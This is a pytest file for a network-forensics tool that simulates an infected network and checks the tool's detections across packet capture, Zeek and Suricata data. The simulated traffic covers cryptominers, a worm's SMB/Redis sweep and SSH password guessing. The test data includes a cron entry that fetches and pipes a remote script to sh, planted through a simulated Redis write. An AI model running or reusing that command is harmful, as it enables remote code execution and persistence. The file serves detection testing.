"""`deminer investigate` on an infected network, told once and seen by three sensors.

The story: two hosts mine (each resolves its pool, then holds a Stratum session with its
own agent, same wallet), one worm host resolves its C2 domain, sweeps a /24 on SMB and
Redis and writes a cron job through an open Redis, and an internet address guesses SSH
passwords on a moved sshd (port 2222); one host only browses. It is written as a packet
capture (``pcap_gen``), as Zeek logs and as Suricata eve.json (``netlog_gen``), and each
is investigated on its own and all together.

What each sensor can show differs and the test says so: only the capture carries payload
(Stratum login, wallet and agent, Redis commands); Zeek and Suricata show the pool through
DNS answers followed by a connection, and Suricata through its miner alert too. The
evidence is network-only (no ``hosts`` table), so findings carry IP addresses as their
host, the documented convention.
"""

from __future__ import annotations

import datetime as dt
import ipaddress
import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from deminer.case import Case
from deminer.cli import main
from deminer.scenarios import captures as gen
from deminer.scenarios import net_logs as netlog_gen

Finding = dict[str, Any]
# miner, pool name, pool address, pool port, agent
MINERS = (("10.0.0.5", "pool.supportxmr.com", "198.51.100.7", 3333, gen.XMRIG_AGENT),
          ("10.0.0.6", "gulf.moneroocean.stream", "203.0.113.9", 10128,
           "XMRig/6.19.2 (Linux x86_64) libuv/1.38.0 gcc/9.3.0"))
WORM, C2, C2_IP = "10.0.0.7", "i.haqo.net", "203.0.113.60"
SWEEP = [f"10.0.1.{i}" for i in range(1, 31)]
SWEEP_PORTS, ANSWERING = (445, 6379), 3      # the first three answer on 445
REDIS = "10.0.0.9"
CRON = "*/1 * * * * curl -fsSL http://203.0.113.50/init.sh | sh"
GUESSER, SSH_TARGET, SSH_PORT, GUESSES = "203.0.113.50", "10.0.0.5", 2222, 30
BROWSER, RESOLVER = "10.0.0.21", "10.0.0.2"


def capture(path: Path) -> Path:
    cap = gen.Capture()
    cap.dns(BROWSER, RESOLVER, "www.example.com", answers=[bytes([93, 184, 216, 34])])
    cap.tls(BROWSER, "93.184.216.34", sni="www.example.com")
    for host, pool, ip, port, agent in MINERS:
        cap.dns(host, RESOLVER, pool, answers=[ipaddress.ip_address(ip).packed])
        cap.stratum(host, ip, port=port, agent=agent)
    cap.dns(WORM, RESOLVER, C2, answers=[ipaddress.ip_address(C2_IP).packed])
    for i, victim in enumerate(SWEEP):
        cap.syn_scan(WORM, victim, SWEEP_PORTS, open_ports={445} if i < ANSWERING else ())
    cap.redis_config_set(WORM, REDIS)
    for _ in range(GUESSES):
        cap.ssh(GUESSER, SSH_TARGET, port=SSH_PORT, close="rst")
    return cap.write(path)


def network() -> netlog_gen.Network:
    net = netlog_gen.Network(start=dt.datetime(2024, 3, 30, 8, 0))
    net.browse(BROWSER, visits=3)
    for host, pool, ip, port, _ in MINERS:
        net.miner(host, pool, ip, port=port)
    net.lookup(WORM, C2, [C2_IP])
    for i, victim in enumerate(SWEEP):
        for port in SWEEP_PORTS:
            answered = i < ANSWERING and port == 445
            net.conn(WORM, victim, port, state="SF" if answered else "REJ", duration=0.001,
                     orig_pkts=1, resp_pkts=1, service="smb" if answered else None)
    # Neither Zeek nor Suricata decodes Redis: the takeover is one answered connection there.
    net.conn(WORM, REDIS, 6379, duration=0.2, orig_bytes=260, resp_bytes=20, orig_pkts=6, resp_pkts=5)
    for c in net.ssh_brute_force(GUESSER, SSH_TARGET, connections=GUESSES):
        c.resp_p = SSH_PORT
    return net


@pytest.fixture(scope="module")
def evidence(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Path]]:
    root = tmp_path_factory.mktemp("network")
    net = network()
    zeek = root / "zeek"
    net.write_zeek(zeek)
    return {"pcap": [capture(root / "sensor.pcap")], "zeek": [zeek],
            "suricata": [net.write_eve(root / "eve.json")]}


@pytest.fixture(scope="module")
def findings(evidence: dict[str, list[Path]], tmp_path_factory: pytest.TempPathFactory
             ) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    runs = {**evidence, "all": [p for paths in evidence.values() for p in paths]}
    for kind, paths in runs.items():
        work = tmp_path_factory.mktemp(kind)
        jsonl = work / "findings.jsonl"
        rc = main(["investigate", *map(str, paths), "--case", str(work / "case"), "--jsonl", str(jsonl),
                   "--quiet"])
        assert rc == 1, kind
        with Case(work / "case") as case:
            # Every file was read by its source (Suricata's stats records are noted, not errors).
            assert case.query("SELECT path FROM inputs WHERE error IS NOT NULL "
                              "OR kind NOT IN ('pcap', 'zeek', 'suricata')") == [], kind
        out[kind] = [json.loads(line) for line in jsonl.read_text().splitlines()]
    return out


def only(found: list[Finding], rule: str, host: str, entity: str | None = None) -> Finding:
    """The single finding of ``rule`` on ``host`` (and ``entity``); fails on none or several."""
    hits = [f for f in found if f["rule"] == rule and f["host"] == host
            and (entity is None or f["entity"] == entity)]
    assert len(hits) == 1, (rule, host, entity, [f["summary"] for f in found if f["rule"] == rule])
    return hits[0]


KINDS = ("pcap", "zeek", "suricata", "all")
SENSORS = {"pcap": 1, "zeek": 1, "suricata": 1, "all": 3}     # how many saw each connection


@pytest.mark.parametrize("kind", KINDS)
def test_each_pool_and_c2_lookup_is_on_the_asking_host(findings: dict[str, list[Finding]], kind: str) -> None:
    found = findings[kind]
    for host, pool, ip, port, _ in MINERS:
        f = only(found, "command_and_control.net_pool_dns", host, pool)
        assert (f["evidence"]["answers"], f["evidence"]["connected_to"]) == (ip, f"{ip}:{port}")
        assert f["evidence"]["family"] == "mining-pool"
    c2 = only(found, "command_and_control.net_pool_dns", WORM, C2)
    assert (c2["evidence"]["family"], c2["evidence"]["answers"]) == ("DTLMiner", C2_IP)
    assert len([f for f in found if f["rule"] == "command_and_control.net_pool_dns"]) == 3


@pytest.mark.parametrize("kind", KINDS)
def test_the_worm_sweep_is_one_fanout_on_the_scanning_host(findings: dict[str, list[Finding]],
                                                           kind: str) -> None:
    (f,) = [f for f in findings[kind] if f["rule"] == "lateral_movement.net_worm_fanout"]
    ev = f["evidence"]
    assert (f["host"], f["entity"]) == (WORM, WORM)
    assert ev["ports"] == "445,6379" and ev["victims"] == len(SWEEP) + 1     # + the Redis server
    assert ev["victim_list"].split() == [*SWEEP, REDIS]
    assert ev["answered_list"].split() == [*SWEEP[:ANSWERING], REDIS]
    # Connections are not matched across sensors (the rule says so): three sensors, three counts.
    assert ev["failed"] == (len(SWEEP) * len(SWEEP_PORTS) - ANSWERING) * SENSORS[kind]


@pytest.mark.parametrize("kind", KINDS)
def test_the_password_guessing_is_on_the_target_with_its_port(findings: dict[str, list[Finding]],
                                                              kind: str) -> None:
    (f,) = [f for f in findings[kind] if f["rule"] == "credential_access.net_ssh_brute_force"]
    ev = f["evidence"]
    assert (f["host"], f["entity"], ev["destination.port"]) == (SSH_TARGET, GUESSER, str(SSH_PORT))
    assert ev["sessions"] == GUESSES * SENSORS[kind]
    assert f"against {SSH_TARGET} port {SSH_PORT}" in f["summary"]


@pytest.mark.parametrize("kind", ["pcap", "all"])
def test_the_capture_names_each_miners_pool_wallet_and_agent(findings: dict[str, list[Finding]],
                                                             kind: str) -> None:
    found = findings[kind]
    for host, pool, ip, port, agent in MINERS:
        f = only(found, "impact.net_stratum_session", host, f"{ip}:{port}")
        ev = f["evidence"]
        assert (ev["destination.domain"], ev["wallet"], ev["agent"]) == (pool, gen.WALLET, agent)
        assert f["severity"] == "critical"
    cluster = only(found, "impact.net_wallet_cluster", MINERS[0][0], gen.WALLET)
    assert cluster["evidence"]["hosts"] == 2


@pytest.mark.parametrize("kind", ["pcap", "all"])
def test_the_capture_shows_the_redis_cron_write(findings: dict[str, list[Finding]], kind: str) -> None:
    f = only(findings[kind], "initial_access.net_redis_abuse", REDIS, WORM)
    ev = f["evidence"]
    assert (ev["dir"], ev["dbfilename"], ev["writes"]) == ("/var/spool/cron/", "root", "a cron job")
    assert ev["payload"].strip() == CRON and f["severity"] == "critical"


def test_what_each_sensor_cannot_see(findings: dict[str, list[Finding]]) -> None:
    def rules(kind: str) -> set[str]:
        return {f["rule"] for f in findings[kind]}
    # No payload in Zeek's or Suricata's logs: no Stratum login, no Redis commands.
    for kind in ("zeek", "suricata"):
        assert not rules(kind) & {"impact.net_stratum_session", "initial_access.net_redis_abuse"}
    # Suricata's ET miner check-in alert names each miner; the capture and Zeek have no IDS.
    for host, *_ in MINERS:
        alert = only(findings["suricata"], "command_and_control.net_ids_miner_alert", host)
        assert alert["evidence"]["miner.ip"] == host
    assert "command_and_control.net_ids_miner_alert" not in rules("pcap") | rules("zeek")


@pytest.mark.parametrize("kind", KINDS)
def test_network_only_findings_carry_addresses_and_spare_the_browser(findings: dict[str, list[Finding]],
                                                                      kind: str) -> None:
    for f in findings[kind]:
        ipaddress.ip_address(f["host"])       # no hosts table: the address is the host
        assert BROWSER not in (f["host"], f["entity"]), f["summary"]


def test_three_sensors_together_still_give_one_finding_per_behaviour(
        findings: dict[str, list[Finding]]) -> None:
    keys = Counter((f["rule"], f["host"], f["entity"]) for f in findings["all"])
    assert max(keys.values()) == 1
    separate = {(f["rule"], f["host"], f["entity"])
                for kind in ("pcap", "zeek", "suricata") for f in findings[kind]}
    assert set(keys) == separate
